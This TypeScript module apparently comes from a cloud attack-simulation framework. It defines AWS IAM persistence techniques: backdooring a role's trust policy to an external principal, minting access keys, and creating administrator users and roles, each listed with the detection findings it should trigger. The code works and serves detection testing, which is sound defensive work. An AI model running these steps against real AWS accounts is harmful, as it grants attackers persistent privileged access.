/** Persistence through IAM: backdoored roles, new access keys, new administrators. */
import { AttachRolePolicyCommand, AttachUserPolicyCommand, CreateAccessKeyCommand, CreateRoleCommand, CreateUserCommand, UpdateAssumeRolePolicyCommand } from '@aws-sdk/client-iam';
import { ADMINISTRATOR_ACCESS, createVictimRole, createVictimUser, EXTERNAL_PRINCIPAL, trustPolicy, undoRole, undoUser } from '../fixtures/iam.js';
import { technique } from '../technique.js';

const ACCOUNT_MANIPULATION = 'Persistence:IAM/AccountManipulation';
const ADMIN_GRANTED = 'PrivilegeEscalation:IAM/AccountManipulation';

export const iamBackdoorRole = technique<string>({
  id: 'aws.persistence.iam-backdoor-role',
  title: 'Backdoor an IAM Role',
  source: 'stratus',
  tactics: ['Persistence'],
  expectedFindingTypes: [ACCOUNT_MANIPULATION],
  setup: createVictimRole,
  async detonate({ attacker }, roleName) {
    const document = trustPolicy({ Service: 'ec2.amazonaws.com' }, { AWS: EXTERNAL_PRINCIPAL });
    await attacker.iam.send(new UpdateAssumeRolePolicyCommand({ RoleName: roleName, PolicyDocument: document }));
  },
});

export const iamBackdoorUser = technique<string>({
  id: 'aws.persistence.iam-backdoor-user',
  title: 'Create an Access Key on an IAM User',
  source: 'stratus',
  tactics: ['Persistence', 'Privilege Escalation'],
  expectedFindingTypes: [ACCOUNT_MANIPULATION],
  setup: (context) => createVictimUser(context),
  async detonate({ attacker }, userName) {
    await attacker.iam.send(new CreateAccessKeyCommand({ UserName: userName }));
  },
});

export const iamCreateAdminUser = technique({
  id: 'aws.persistence.iam-create-admin-user',
  title: 'Create an administrative IAM User',
  source: 'stratus',
  tactics: ['Persistence', 'Privilege Escalation'],
  expectedFindingTypes: [ADMIN_GRANTED, ACCOUNT_MANIPULATION],
  async detonate(context) {
    const userName = context.name('admin');
    const iam = context.attacker.iam;
    await iam.send(new CreateUserCommand({ UserName: userName, Tags: [{ Key: 'bulwark-simulate', Value: 'true' }] }));
    undoUser(context, userName);
    await iam.send(new AttachUserPolicyCommand({ UserName: userName, PolicyArn: ADMINISTRATOR_ACCESS }));
    await iam.send(new CreateAccessKeyCommand({ UserName: userName }));
  },
});

export const iamCreateBackdoorRole = technique({
  id: 'aws.persistence.iam-create-backdoor-role',
  title: 'Create a backdoored IAM Role',
  source: 'stratus',
  tactics: ['Persistence'],
  expectedFindingTypes: [ADMIN_GRANTED, ACCOUNT_MANIPULATION],
  async detonate(context) {
    const roleName = context.name('backdoor-role');
    const iam = context.attacker.iam;
    // The deny-all boundary keeps the backdoor harmless while it exists.
    await iam.send(
      new CreateRoleCommand({ RoleName: roleName, AssumeRolePolicyDocument: trustPolicy({ AWS: EXTERNAL_PRINCIPAL }), PermissionsBoundary: 'arn:aws:iam::aws:policy/AWSDenyAll' }),
    );
    undoRole(context, roleName);
    await iam.send(new AttachRolePolicyCommand({ RoleName: roleName, PolicyArn: ADMINISTRATOR_ACCESS }));
  },
});
